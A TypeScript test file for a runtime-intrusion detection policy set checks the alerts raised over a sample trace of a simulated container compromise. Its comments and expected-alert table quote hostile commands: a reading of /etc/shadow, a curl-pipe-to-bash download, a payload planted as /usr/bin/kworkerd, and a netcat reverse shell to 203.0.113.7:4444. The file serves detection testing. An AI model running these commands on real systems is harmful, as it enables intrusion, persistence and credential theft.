/**
 * The runtime-integrity set over the bundled sample trace (resources/traces/sample.sf, written by
 * src/services/trace/SampleTraces.ts). The expected alerts were worked out from the scenario, record by
 * record:
 * - alice's `sudo cat /etc/shadow` on the host: sudo's setuid to root is an interactive privilege use;
 *   sudo reading /etc/sudoers is its job, cat reading /etc/shadow is not;
 * - the nginx worker in the web container starts `bash -c curl ... | bash`: a shell spawned by a web
 *   server; curl and, later, wget run below it: downloaders launched by a web server (not also "in a
 *   container"); wget saves its payload as /tmp/.x: a hidden file in a temporary directory;
 * - the piped script runs apt-get install (reported) which runs dpkg (not reported again); dpkg writing,
 *   renaming and linking files in /usr/bin is package management (not reported);
 * - cp copies /tmp/.x to /usr/bin/kworkerd: a write below a binary directory; rm /tmp/.x is not
 *   reported;
 * - `nc.openbsd 203.0.113.7 4444 -e /bin/bash`: a reverse shell command (not also a plain netcat), and
 *   its connection to port 4444 is an outbound connection to an uncommon port from a container;
 * - everything else (web, cache and worker traffic, DNS, HTTP to port 80, log appends, the SSH session,
 *   library loads, the K8s event) is ordinary.
 */
import { beforeAll, describe, expect, it } from "vitest"
import * as path from "node:path"
import type { FlatRecord } from "../../src/domain/flatRecord.js"
import type { CompiledPolicySet } from "../../src/services/policy/PolicySet.js"
import { lines, runCli, tempDir, writePipeline } from "../support/cli.js"
import { alertsOf, attr, load, policiesDir, readTrace, runtimeIntegrityDir, sampleTrace } from "./support.js"

const what = (r: FlatRecord): string => {
  const proc = attr(r, "sf.proc.name")
  if (r.type === "FF" || r.type === "FE") return `${proc} ${attr(r, "sf.file.path")}`
  if (r.type === "NF") return `${proc} -> ${attr(r, "sf.net.dip")}:${attr(r, "sf.net.dport")}`
  return `${proc} ${attr(r, "sf.opflags")}`
}

const expected = [
  ["Root privileges obtained through sudo or su", "PE", "sudo SETUID"],
  ["Credential file read by an untrusted program", "FF", "cat /etc/shadow"],
  ["Shell spawned by a web server", "PE", "bash EXEC"],
  ["Downloader launched by a web server", "PE", "curl EXEC"],
  ["Package management in a container", "PE", "apt-get EXEC"],
  ["Downloader launched by a web server", "PE", "wget EXEC"],
  ["Hidden file created in a temporary directory", "FF", "wget /tmp/.x"],
  ["Write below a binary directory", "FF", "cp /usr/bin/kworkerd"],
  ["Reverse shell command", "PE", "nc.openbsd EXEC"],
  ["Outbound connection to an uncommon port from a container", "NF", "nc.openbsd -> 203.0.113.7:4444"]
]

let records: FlatRecord[]
let ri: CompiledPolicySet
beforeAll(async () => {
  ;[records, ri] = await Promise.all([readTrace(sampleTrace), load(runtimeIntegrityDir)])
})

describe("The runtime-integrity set over the bundled sample trace", () => {
  it("fires exactly these nine rules", () => {
    expect(new Set(alertsOf(ri, records).map((a) => a.rule.name))).toEqual(new Set(expected.map(([rule]) => rule)))
  })

  it("gives these ten alerts, in trace order, one rule per record", () => {
    expect(alertsOf(ri, records).map((a) => [a.rule.name, a.record.type, what(a.record)])).toEqual(expected)
  })

  it("gives the same alerts when loaded together with the filter set (policies/)", async () => {
    const both = await load(policiesDir)
    expect(alertsOf(both, records).map((a) => [a.rule.name, a.record.type, what(a.record)])).toEqual(expected)
  })

  it("gives the same alerts through the sfprocessor command in alert mode", async () => {
    const dir = tempDir()
    const out = path.join(dir, "alerts.jsonl")
    const config = writePipeline(dir, {
      pipeline: [
        { processor: "sysflowreader", handler: "flattener", in: "sysflow sysflowchan", out: "flat flattenerchan" },
        { processor: "policyengine", in: "flat flattenerchan", out: "evt eventchan", mode: "alert", policies: runtimeIntegrityDir },
        { processor: "exporter", in: "evt eventchan", export: "file", format: "json", "file.path": out }
      ]
    })
    const res = await runCli(["-log", "error", "-config", config, "-driver", "file", sampleTrace])
    expect(res.stderr).toBe("")
    expect(res.code).toBe(0)
    const policies = lines(out).flatMap((l) => (JSON.parse(l) as { policies: Array<{ id: string; output?: string }> }).policies)
    expect(policies.map((p) => p.id)).toEqual(expected.map(([rule]) => rule))
    // Every rule of the set has an output: each alert carries it rendered, every %field replaced.
    for (const p of policies) {
      expect(p.output, p.id).toMatch(/\(.*command=\S/)
      expect(p.output, p.id).not.toContain("%sf.")
    }
  })
})
